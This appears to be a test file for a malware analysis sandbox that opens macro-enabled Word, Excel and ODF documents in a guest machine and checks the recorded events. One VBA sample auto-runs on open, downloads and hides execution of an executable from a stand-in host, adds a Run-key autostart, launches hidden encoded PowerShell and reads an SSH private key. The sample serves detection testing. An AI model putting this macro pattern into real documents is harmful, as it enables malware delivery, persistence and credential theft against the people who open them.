"""Documents with macros, opened in the office guest: what they do is seen, in order, with who did it."""

from __future__ import annotations

import base64
from functools import partial

import pytest

from lazaretto.domain.trace import Cause, Ending, Source
from lazaretto.testing import vba

pytestmark = pytest.mark.machine("office")

SCRIPT = "Write-Output 'decoded by nobody but us'"
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
URL = "http://files.example.com/tools/setup.exe"
CANARY = "/home/claire/.ssh/id_ed25519"
# In this order: a command, a download that is saved and started, the registry, PowerShell, a decoy.
DOES = rf"""
Sub AutoOpen()
  Dim s, x, f, t, l
  Set s = CreateObject("WScript.Shell")
  s.Run "cmd /c echo hello> C:\Users\Public\note.txt", 0, True
  t = s.ExpandEnvironmentStrings("%TEMP%")
  Set x = CreateObject("MSXML2.XMLHTTP")
  x.Open "GET", "{URL}", False
  x.Send
  Set f = CreateObject("ADODB.Stream")
  f.Open
  f.Type = 1
  f.Write x.ResponseBody
  f.SaveToFile t & "\setup.exe", 2
  f.Close
  Shell t & "\setup.exe", vbHide
  s.RegWrite "{RUN_KEY}\setup", t & "\setup.exe", "REG_SZ"
  s.Run "powershell -w hidden -enc {ENCODED}", 0, True
  Open "{CANARY}" For Input As #1
  Line Input #1, l
  Close #1
End Sub
"""
ASKS = """
Sub AutoOpen()
  If MsgBox("Run the update?", vbYesNo, "Update") = vbYes Then
    Shell "cmd /c echo agreed"
  End If
End Sub
"""
WAITS = """
Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As Long)
Sub AutoOpen()
  Sleep 120000
  Shell "cmd /c echo awake"
End Sub
"""
WRITES = r"""
Option Explicit
Sub AutoOpen()
  Dim b(3) As Byte
  Dim s As String
  b(1) = 90
  b(2) = 144
  s = Chr(77) & Chr(90) & Chr(144) & Chr(255)
  Open "C:\Users\Public\semicolon.bin" For Output As #1
  Print #1, s;
  Print #1, Chr(0); "end";
  Close #1
  Open "C:\Users\Public\print.txt" For Output As #1
  Print #1, "a", "b"; 5; -3; True
  Print #1, "left",
  If UBound(b) = 3 Then Print #1, "x"; Else Print #1, "y"
  Close #1
  Open "C:\Users\Public\print.txt" For Append As #1
  Print #1, "appended"
  Close #1
  Open "C:\Users\Public\write.csv" For Output As #1
  Write #1, "text", 1.5, True,
  Write #1, "next"
  Close #1
  Open "C:\Users\Public\put.bin" For Binary As #1
  Put #1, , b
  Put #1, 1, CByte(77)
  Put #1, 8, s
  Close #1
End Sub
"""
WRITTEN = {
    "semicolon.bin": b"MZ\x90\xff\0end",
    "print.txt": b"a             b 5 -3 True \r\nleft          xappended\r\n",
    "write.csv": b'"text",1.5,#TRUE#,"next"\r\n',
    "put.bin": b"MZ\x90\0\0\0\0MZ\x90\xff",
}
BASIC = """
Sub Main
  Open "/home/claire/Documents/from-basic.txt" For Output As #1
  Print #1, "content"
  Close #1
  Shell("/bin/cp", 0, "/etc/hostname /home/claire/from-shell.txt", True)
End Sub
"""


BASIC_ASKS = """
Sub Main
  Wait 120000
  If MsgBox("Run the update?", 4, "Update") = 6 Then Shell("/bin/touch", 0, "/home/claire/agreed.txt", True)
End Sub
"""


@pytest.fixture(scope="session")
def office(guests):
    def run(sample, launch, **request):
        return guests.run(sample, "office", launch, **request)

    return run


def _docm(source):
    return vba.docm("", {"Module1": source})


KINDS = {
    "docm": ("doc", partial(_docm, DOES)),
    "xlsm": ("xls", lambda: vba.xlsm("Private Sub Workbook_Open()\n AutoOpen\nEnd Sub", {"Module1": DOES})),
}


@pytest.fixture(scope="module", params=KINDS)
def observed(request, office, tmp_path_factory):
    launch, make = KINDS[request.param]
    path = tmp_path_factory.mktemp("macros") / f"invoice.{request.param}"
    path.write_bytes(make())
    return office(path, launch)


@pytest.fixture
def document(tmp_path, office):
    """Write a document and open it."""

    def run(name, content, launch, **request):
        path = tmp_path / name
        path.write_bytes(content)
        return office(path, launch, **request)

    return run


def of_the_office(observed, event):
    process = observed.trace.processes[event.process]
    return process.cause is Cause.SAMPLE and "soffice" in process.image


class TestMacro:
    def test_ends_early_and_whole(self, observed):
        assert observed.ending is Ending.EXITED, observed.story()
        assert observed.trace.lost.total == 0
        assert observed.trace.guest_time < 100

    def test_order(self, observed):
        steps = [
            observed.one("standin", program="cmd"),
            observed.one("file.create", path=r"C:\Users\Public\note.txt"),
            observed.one("net.dns", name="files.example.com"),
            observed.one("net.http", url=URL),
            observed.one("file.write", path=lambda path: path.endswith(r"\Temp\setup.exe")),
            observed.one("process.start", image="/usr/lib/win/bin/program.exe"),
            observed.one("registry.set"),
            observed.one("standin", program="powershell"),
            observed.one("canary", path=CANARY),
        ]
        assert [step.id for step in steps] == sorted(step.id for step in steps), observed.story()

    def test_calls(self, observed):
        made = [(call.module, call.function) for call in observed.events("api")]
        for call in (("wscript.shell", "Run"), ("adodb.stream", "SaveToFile"), ("vba", "Shell")):
            assert call in made, observed.story()
        assert all(call.source is Source.API and of_the_office(observed, call) for call in observed.events("api"))

    def test_download_is_seen_on_the_wire_and_on_disk(self, observed):
        http = observed.one("net.http", url=URL)
        assert (http.status, http.served) == (200, "program")
        write = observed.one("file.write", path=lambda path: path.endswith(r"\Temp\setup.exe"))
        assert write.head.startswith(b"MZ")
        assert write.sha256
        assert of_the_office(observed, write)

    def test_download_was_started(self, observed):
        start = observed.one("process.start", image="/usr/lib/win/bin/program.exe")
        assert start.command_line.rstrip("'\"").endswith(r"\Temp\setup.exe")
        assert start.cause is Cause.CHILD

    def test_autostart(self, observed):
        written = observed.one("registry.set", key=RUN_KEY, name="setup", type="REG_SZ")
        autostart = observed.one("autostart", mechanism="run-key")
        assert written.id in autostart.because

    def test_powershell_is_decoded(self, observed):
        asked = observed.one("standin", program="powershell")
        start = observed.trace.events[asked.because[0]]
        assert SCRIPT in start.script
        assert asked.source is Source.STANDIN

    def test_command(self, observed):
        assert observed.one("standin", program="cmd").command_line.startswith("cmd /c echo hello")
        assert observed.dropped(r"C:\Users\Public\note.txt") == b"hello\r\n"

    def test_canary(self, observed):
        touched = observed.one("canary", path=CANARY)
        assert (touched.canary, touched.action) == ("ssh-key", "read")
        assert of_the_office(observed, touched)

    def test_office_itself_is_quiet(self, observed):
        """What the office does for any document is no part of the account."""
        paths = [getattr(event, "path", "") for event in observed.events()]
        assert not [path for path in paths if "/libreoffice/" in path or path.startswith(("/tmp/lu", "/usr/"))]

    def test_pictures(self, observed):
        pictures = observed.artifacts("screenshot")
        assert pictures
        assert observed.content(pictures[0]).startswith(b"\x89PNG")


def test_message_box_is_read_and_answered(document):
    observed = document("question.docm", _docm(ASKS), "doc")
    told = observed.one("window", text="Run the update?")
    assert (told.title, told.dialog) == ("Update", True)
    seen = observed.one("window", title="Update", source=Source.SESSION)
    agreed = observed.one("standin", program="cmd")
    assert told.time <= seen.time < agreed.time


def test_files_are_written_as_in_vba(document):
    observed = document("writer.docm", _docm(WRITES), "doc")
    assert {name: observed.dropped(rf"C:\Users\Public\{name}") for name in WRITTEN} == WRITTEN
    assert of_the_office(observed, observed.one("file.write", path=r"C:\Users\Public\semicolon.bin"))


def test_macro_that_waits_is_waited_for(document):
    observed = document("later.docm", _docm(WAITS), "doc")
    assert observed.one("standin", program="cmd").time > 120e9
    assert observed.ending is Ending.EXITED


def test_basic_of_a_text_document(document):
    observed = document("letter.odt", vba.odt(BASIC), "odf")
    write = observed.one("file.write", path="/home/claire/Documents/from-basic.txt")
    shell = observed.one("file.write", path="/home/claire/from-shell.txt")
    assert of_the_office(observed, write)
    assert observed.trace.processes[shell.process].cause is Cause.CHILD
    assert write.id < shell.id
    assert observed.ending is Ending.EXITED


def test_boxes_and_waiting_in_basic_of_a_text_document(document):
    observed = document("question.odt", vba.odt(BASIC_ASKS), "odf")
    told = observed.one("window", text="Run the update?")
    assert (told.title, told.dialog) == ("Update", True)
    assert observed.one("window", title="Update", source=Source.SESSION).time >= told.time > 120e9
    assert observed.one("file.create", path="/home/claire/agreed.txt").time > told.time
    assert observed.ending is Ending.EXITED
